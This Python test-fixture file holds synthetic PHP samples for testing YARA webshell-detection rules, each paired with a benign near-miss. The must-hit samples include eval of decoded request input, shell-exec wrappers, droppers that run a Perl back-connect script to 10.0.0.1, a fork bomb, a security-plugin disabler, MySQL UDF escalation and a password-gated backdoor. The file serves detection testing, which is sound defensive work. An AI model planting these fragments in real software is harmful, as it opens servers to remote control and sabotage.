"""Must-hit / near-miss samples for `signatures/shells.yar`, collected by tests/test_rules.py.

Small synthetic PHP written for the tests; no corpus excerpts.
"""

from __future__ import annotations

DISPATCH = (
    b"<?php\nfunction actionRun() { echo 1; }\n"
    b"if (!empty($_POST['x'])) $_POST['x'] .= ' 2>&1';\n"
    b"if (function_exists('action' . $_POST['go'])) call_user_func('action' . $_POST['go']);\n"
)
DISPATCH_NEAR = (
    b"<?php\n$allowed = ['list', 'show'];\n$a = $_POST['go'] ?? 'list';\n"
    b"if (in_array($a, $allowed, true)) call_user_func('action' . ucfirst($a));\n"
)

SPLIT_EVAL = b'<?php\n$src = trim($q);\n$src = "<?php\\n{$src}\\n?>";\neval("?".">$src<?");\n'
SPLIT_EVAL_NEAR = (
    b"<?php\n// template engine: compiled template kept in a property\n"
    b"$compiled = $this->compile($tpl);\neval('?' . '>' . $compiled);\n"
)

CODEC_EVAL = b"<?php\n$m = $_POST['z'];\nif ($m) { eval(base64_decode($m)); }\n"
DECODED_EVAL = (
    b"<?php\nif (isset($_R['run'])) {\n  $c = base64_decode($_R['run']);\n"
    b"  ob_start(); eval($c); echo ob_get_clean();\n}\n"
)
CODEC_EVAL_NEAR = (
    b"<?php\n$name = $_POST['name'];\n$cfg = base64_decode(file_get_contents('cfg.b64'));\n"
    b"echo htmlspecialchars($name);\n"
)

DROPPER = (
    b"<?php\n$blob = 'dXNlIHN0cmljdDsK';\n$h = fopen('bc.pl', 'w');\n"
    b"fwrite($h, base64_decode($blob));\nfclose($h);\nsystem('perl bc.pl 10.0.0.1 4444');\n"
)
DROPPER_NEAR = (
    b"<?php\n// build helper: write a deploy script, the admin runs it by hand\n"
    b"$h = fopen('deploy.sh', 'w');\nfwrite($h, base64_decode($tplB64));\nfclose($h);\n"
    b"echo 'now run deploy.sh';\n"
)

PROBE = (
    b"<?php\nif ($_GET['i']) { phpinfo(); }\n$u = @php_uname();\n"
    b"$sm = @ini_get('safe_mode');\necho $u . ($sm ? ' SAFE' : ' OFF');\n"
)
PROBE_NEAR = (
    b"<?php\n// admin status page\nif (!is_admin()) exit;\nphpinfo();\n"
    b"echo php_uname();\necho ini_get('safe_mode');\n"
)

SECKILL = (
    b"<?php\nadd_action('init', 'k');\nfunction k() {\n  $o = get_option('itsec_file_change');\n"
    b"  $o['enabled'] = FALSE;\n  update_option('itsec_file_change', $o);\n"
    b'  mysql_query("truncate " . PFX . "wfIssues;");\n}\n'
)
SECKILL_NEAR = (
    b"<?php\n// security plugin uninstall: drop its own data\n"
    b"$wpdb->query(\"truncate {$wpdb->prefix}wfIssues\");\ndelete_option('wordfence_version');\n"
)

ELF_DROPPER = (
    b"<?php\n$b = 'IyEvdXNyL2Jpbi9lbnYgcGVybAp1c2UgU29ja2V0OyAjIGJhY2sgY29ubmVjdA==';\n"
    b"file_put_contents('/tmp/x', base64_decode($b));\nshell_exec('perl /tmp/x 10.0.0.1 53');\n"
)
ELF_DROPPER_NEAR = (
    b"<?php\n// shows an example base64 blob in docs, no write, no command\n"
    b"$example = 'IyEvdXNyL2Jpbi9lbnYgcGVybAp1c2UgU29ja2V0OyAjIGJhY2sgY29ubmVjdA==';\n"
    b"echo htmlspecialchars($example);\n"
)

SELF_APPEND = (
    b"<?php\n$t = '<p>' . $_POST['msg'] . '</p>';\n$f = fopen(__FILE__, 'a');\nfwrite($f, $t);\nfclose($f);\n"
)
SELF_APPEND_NEAR = (
    b"<?php\n// guestbook stored in a data file, not in the script\n"
    b"$f = fopen(__DIR__ . '/book.txt', 'a');\nfwrite($f, htmlspecialchars($_POST['msg']));\n"
    b"$me = fopen(__FILE__, 'r');\n"
)

UDF = (
    b"<?php\nif ($_POST['go']) {\n"
    b"  mysql_query(\"select unhex('4d5a') into dumpfile '\" . $_POST['p'] . \"'\");\n"
    b"  mysql_query(\"create function sys_x returns string soname 'x.dll'\");\n}\n"
)
UDF_NEAR = (
    b"<?php\n// backup tool: export to a server-side file, no UDF\n"
    b"$db->query(\"SELECT * FROM t INTO OUTFILE '/var/backups/t.csv'\");\n"
    b"echo $_GET['done'] ?? '';\n"
)

WP_CONTENT = (
    b"<?php\nif (isset($_REQUEST['pw']) && $_REQUEST['pw'] == '0123456789abcdef0123456789abcdef') {\n"
    b"  switch ($_REQUEST['do']) {\n    case 'set':\n"
    b"      $wpdb->query('UPDATE posts SET c = ' . $wpdb->prepare('%s', $_REQUEST['data']));\n"
    b"      break;\n  }\n}\n"
)
WP_CONTENT_NEAR = (
    b"<?php\nif (!wp_verify_nonce($_REQUEST['_n'], 'save')) die;\n"
    b"switch ($_REQUEST['do']) {\n  case 'set':\n"
    b"    $wpdb->update($wpdb->posts, ['post_content' => wp_kses_post($_REQUEST['data'])], ['ID' => 1]);\n}\n"
)

VARVAR_EVAL = b"<?php\n$k = 'TSOP_';\n$n = strrev($k);\nif (isset(${$n}['z'])) { eval(${$n}['z']); }\n"
VARVAR_EVAL_NEAR = (
    b"<?php\n// variable-variable config lookup, nothing evaluated\n"
    b"$n = 'settings';\n$v = ${$n}['theme'] ?? 'default';\necho htmlspecialchars($v);\n"
)

TINY_PRINT = b"<?php\nif ($c != '') print shell_exec($c);\n"
TINY_CAPTURE = (
    b"<?php\nfunction run($c) {\n  ob_start();\n  @passthru($c);\n"
    b"  $o = ob_get_contents();\n  ob_end_clean();\n  return $o;\n}\n"
)
TINY_NEAR = (
    b"<?php\n// version probe with a fixed command\n$v = shell_exec('git describe --tags');\n"
    b"echo trim((string) $v);\n"
)

FORK_BOMB = b"<?php\nwhile (true) pcntl_fork();\n"
FORK_NEAR = (
    b"<?php\n// worker pool: fork a fixed number of children\n"
    b"for ($i = 0; $i < 4; $i++) {\n  $pid = pcntl_fork();\n  if ($pid === 0) { work(); exit(0); }\n}\n"
)

DRIVES = (
    b"<?php\nforeach (range('c', 'z') as $l) { if (is_dir($l . ':')) echo $l; }\n"
    b"$d = $_GET['dir'];\n$h = opendir($d);\nwhile ($e = readdir($h)) echo $e;\n"
)
DRIVES_NEAR = (
    b"<?php\n// letter index of a glossary, no drive probing\n"
    b"foreach (range('a', 'z') as $l) { echo $l; }\n$h = opendir(__DIR__ . '/terms');\n"
    b"echo $_GET['page'] ?? '';\n"
)

MX_FUNCS = (
    b"function Fa0000001($V0) { return 1; }\nfunction Fa0000002($V0) { return 2; }\n"
    b"function Fa0000003($V0) { getmxrr($V0, $Vmx); return $Vmx; }\n"
)
MX_MAILER = (
    b"<?php\n"
    + b"".join(b"$V%08x = 1; " % i for i in range(0xA0000001, 0xA0000001 + 22))
    + b"\n"
    + MX_FUNCS
    + b"$Va0000099 = @fsockopen($Va0000001, 25, $e, $s, 10);\n"
)
MX_MAILER_NEAR = (
    b"<?php\n// e-mail address validator: MX lookup and SMTP probe, readable names\n"
    b"function check($domain) { getmxrr($domain, $hosts);\n"
    b"  $sock = @fsockopen($hosts[0], 25, $errno, $errstr, 10);\n  return (bool) $sock;\n}\n"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH, True),
    ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH_NEAR, False),
    ("SPAMGEAR_SHELL_EvalSplitCloseTag", SPLIT_EVAL, True),
    ("SPAMGEAR_SHELL_EvalSplitCloseTag", SPLIT_EVAL_NEAR, False),
    ("SPAMGEAR_SHELL_CodecOfInputEval", CODEC_EVAL, True),
    ("SPAMGEAR_SHELL_CodecOfInputEval", DECODED_EVAL, True),
    ("SPAMGEAR_SHELL_CodecOfInputEval", CODEC_EVAL_NEAR, False),
    ("SPAMGEAR_SHELL_ScriptDropperRun", DROPPER, True),
    ("SPAMGEAR_SHELL_ScriptDropperRun", DROPPER_NEAR, False),
    ("SPAMGEAR_SHELL_SwitchedHostProbe", PROBE, True),
    ("SPAMGEAR_SHELL_SwitchedHostProbe", PROBE_NEAR, False),
    ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL, True),
    ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL_NEAR, False),
    ("SPAMGEAR_SHELL_EncodedExecutableDropper", ELF_DROPPER, True),
    ("SPAMGEAR_SHELL_EncodedExecutableDropper", ELF_DROPPER_NEAR, False),
    ("SPAMGEAR_SHELL_SelfAppendFromInput", SELF_APPEND, True),
    ("SPAMGEAR_SHELL_SelfAppendFromInput", SELF_APPEND_NEAR, False),
    ("SPAMGEAR_SHELL_MysqlUdfEscalation", UDF, True),
    ("SPAMGEAR_SHELL_MysqlUdfEscalation", UDF_NEAR, False),
    ("SPAMGEAR_SHELL_WpRemoteContentBackdoor", WP_CONTENT, True),
    ("SPAMGEAR_SHELL_WpRemoteContentBackdoor", WP_CONTENT_NEAR, False),
    ("SPAMGEAR_SHELL_EvalOfVarVarElement", VARVAR_EVAL, True),
    ("SPAMGEAR_SHELL_EvalOfVarVarElement", VARVAR_EVAL_NEAR, False),
    ("SPAMGEAR_SHELL_TinyShellWrapper", TINY_PRINT, True),
    ("SPAMGEAR_SHELL_TinyShellWrapper", TINY_CAPTURE, True),
    ("SPAMGEAR_SHELL_TinyShellWrapper", TINY_NEAR, False),
    ("SPAMGEAR_SHELL_ForkBomb", FORK_BOMB, True),
    ("SPAMGEAR_SHELL_ForkBomb", FORK_NEAR, False),
    ("SPAMGEAR_SHELL_DriveLetterBrowser", DRIVES, True),
    ("SPAMGEAR_SHELL_DriveLetterBrowser", DRIVES_NEAR, False),
    ("SPAMGEAR_MAILER_ObfuscatedDirectMx", MX_MAILER, True),
    ("SPAMGEAR_MAILER_ObfuscatedDirectMx", MX_MAILER_NEAR, False),
]
